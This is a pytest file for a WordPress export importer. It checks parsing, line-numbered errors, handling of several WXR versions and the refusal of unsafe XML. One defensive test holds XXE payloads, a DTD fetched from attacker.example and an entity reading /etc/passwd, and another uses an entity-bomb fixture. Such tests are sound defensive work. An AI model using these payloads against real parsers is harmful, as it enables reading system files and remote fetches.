"""Reading an export (importer.wxr): the whole file parsed and checked first, with DTDs,
entities and external references refused, and errors that name the line."""

import datetime
import re
from pathlib import Path

import pytest

from importer.wxr import ExportError, read_export, site_key
from testing.wordpress import (
    ENTITY_BOMB,
    EXPORT,
    MALFORMED,
    cdata,
    comment_xml,
    export_xml,
    post_xml,
)


def write(tmp_path, text, name="export.xml"):
    path = tmp_path / name
    path.write_text(text, encoding="utf-8")
    return path


def test_the_fixture_export_is_read_whole():
    export = read_export(EXPORT)
    assert (export.title, export.site_url) == ("PurseBop on WordPress", "https://old.example")
    assert [post.id for post in export.posts] == [*range(101, 116)]
    assert sorted(export.attachments) == [201, 202, 203, 204, 205]
    assert export.other_types == {"page": 1}
    assert export.authors["avery"].display_name == "Avery Stone"
    post = export.posts[0]
    assert post.published_at == datetime.datetime(2024, 5, 3, 14, tzinfo=datetime.UTC)
    assert post.date == datetime.datetime(2024, 5, 3, 10)
    assert post.term_slugs("category") == ["dear-pursebop", "care-and-repair"]
    assert post.meta["_thumbnail_id"] == "201"
    assert len(post.comments) == 14 and post.comments[1].parent == 1001
    assert post.line > 1
    draft = next(post for post in export.posts if post.id == 107)
    assert draft.date_gmt is None and draft.published_at.date() == datetime.date(2024, 5, 25)


def test_an_entity_bomb_is_refused_before_any_expansion():
    with pytest.raises(ExportError) as refused:
        read_export(ENTITY_BOMB)
    message = str(refused.value)
    assert "refused" in message and "document type (line 4)" in message
    assert "Nothing was imported" in message


@pytest.mark.parametrize(
    "declaration",
    [
        '<!DOCTYPE rss SYSTEM "http://attacker.example/wxr.dtd">',
        '<!DOCTYPE rss [<!ENTITY secret SYSTEM "file:///etc/passwd">]>',
    ],
)
def test_external_entities_and_dtds_are_never_fetched(tmp_path, declaration):
    text = export_xml([]).replace("<rss", f"{declaration}\n<rss", 1)
    with pytest.raises(ExportError, match="refused"):
        read_export(write(tmp_path, text))


def test_a_malformed_file_names_the_line_and_column():
    with pytest.raises(ExportError) as error:
        read_export(MALFORMED)
    assert "not well-formed XML: mismatched tag at line 32, column 5" in str(error.value)


def test_a_file_that_is_not_an_export_is_refused(tmp_path):
    with pytest.raises(ExportError, match="no <rss><channel>"):
        read_export(write(tmp_path, "<html><body>hello</body></html>"))
    with pytest.raises(ExportError, match="no wp:wxr_version"):
        read_export(write(tmp_path, "<rss><channel><title>x</title></channel></rss>"))


def test_bad_values_name_the_line_of_their_item(tmp_path):
    good = post_xml(1, "Fine", "Dear PurseBop,")
    bad = post_xml(2, "Broken date", "x", date="yesterday")
    text = export_xml([good, bad])
    line = text[: text.index("Broken date")].count("\n") + 1
    with pytest.raises(ExportError) as error:
        read_export(write(tmp_path, text))
    item_line = text[: text.rindex("<item>", 0, text.index("Broken date"))].count("\n") + 1
    assert f"line {item_line}: wp:post_date should be a date" in str(error.value)
    assert item_line < line

    comment = comment_xml(5, "Hi", parent="abc")
    with pytest.raises(ExportError, match="wp:comment_parent should be a whole number"):
        read_export(write(tmp_path, export_xml([post_xml(1, "x", "y", comments=[comment])])))


def test_sites_are_named_without_scheme_or_trailing_slash():
    assert site_key("https://Old.Example/") == "old.example"
    assert site_key("http://old.example/blog/") == "old.example/blog"
    assert site_key("old.example") == "old.example"


THEME_UNIT_TEST = (
    Path(__file__).parent / "data" / "theme-unit-test" / "themeunittestdata.trimmed.xml"
)


def variant(text, version="1.2", scheme="http", excerpt=True, content=True):
    """`text` (from export_xml) as another WordPress version would write it: the WXR version and
    its namespace's scheme, with or without the excerpt and content modules."""
    text = text.replace(
        "http://wordpress.org/export/1.2/", f"{scheme}://wordpress.org/export/{version}/"
    )
    text = text.replace("<wp:wxr_version>1.2<", f"<wp:wxr_version>{version}<")
    if not excerpt:
        text = re.sub(r'\s*xmlns:excerpt="[^"]*"', "", text)
        text = re.sub(r"\s*<excerpt:encoded>.*?</excerpt:encoded>", "", text, flags=re.S)
    if not content:
        text = re.sub(r'\s*xmlns:content="[^"]*"', "", text)
        text = re.sub(r"\s*<content:encoded>.*?</content:encoded>", "", text, flags=re.S)
    if version == "1.0":
        # WXR 1.0 (WordPress 3.0 and before) had no author list and no base_blog_url.
        text = re.sub(r"\s*<wp:author>.*?</wp:author>", "", text, flags=re.S)
        text = re.sub(r"\s*<wp:base_blog_url>.*?</wp:base_blog_url>", "", text)
    return text


@pytest.mark.parametrize("version", ["1.0", "1.1", "1.2"])
@pytest.mark.parametrize("scheme", ["http", "https"])
@pytest.mark.parametrize(("excerpt", "content"), [(True, True), (False, True), (True, False)])
def test_every_wxr_version_and_namespace_is_read(tmp_path, version, scheme, excerpt, content):
    body = "Dear PurseBop,\n\nA question."
    post = post_xml(7, "A question", body, comments=[comment_xml(70, "A reply")])
    text = export_xml([post]).replace(
        f"<excerpt:encoded>{cdata('')}</excerpt:encoded>",
        f"<excerpt:encoded>{cdata('The summary')}</excerpt:encoded>",
    )
    export = read_export(write(tmp_path, variant(text, version, scheme, excerpt, content)))
    [read] = export.posts
    assert (read.id, read.title, read.name, read.status) == (7, "A question", "letter-7", "publish")
    assert read.content == (body if content else "")
    assert read.excerpt == ("The summary" if excerpt else "")
    assert [comment.content for comment in read.comments] == ["A reply"]
    assert read.term_slugs("category") == ["dear-pursebop"]
    assert export.site_url == "https://old.example"
    assert list(export.authors) == ([] if version == "1.0" else ["avery"])


def test_another_namespace_is_still_refused(tmp_path):
    text = export_xml([]).replace(
        "http://wordpress.org/export/1.2/", "http://example.org/export/1.2/"
    )
    with pytest.raises(ExportError, match="no wp:wxr_version"):
        read_export(write(tmp_path, text))


def test_wordpress_theme_unit_test_export_is_read_as_written():
    """The real export WordPress publishes for theme testing (https namespaces, WXR 1.2,
    written by WordPress.com), read with no hand edit."""
    export = read_export(THEME_UNIT_TEST)
    assert export.title == "Theme Unit Test Data"
    assert export.site_url == "https://wpthemetestdata.wordpress.com"
    assert len(export.posts) == 58 and len(export.attachments) == 37
    assert sorted(export.authors) == ["themedemos", "themereviewteam"]
    statuses = sorted(post.status for post in export.posts)
    assert statuses.count("draft") == 1 and statuses.count("future") == 1
    assert [post.id for post in export.posts if post.password] == [1168]
    comments = [comment for post in export.posts for comment in post.comments]
    assert len(comments) == 28
    assert sorted(c.type for c in comments if c.type not in ("", "comment")) == [
        "pingback",
        "pingback",
        "trackback",
        "trackback",
    ]
    by_id = {comment.id: comment for comment in comments}
    # A top-level comment and replies nested nine levels below it.
    assert max(_depth(comment, by_id) for comment in comments) == 10
    assert any(post.excerpt for post in export.posts)


def _depth(comment, by_id):
    depth = 0
    while comment is not None:
        depth += 1
        comment = by_id.get(comment.parent)
    return depth
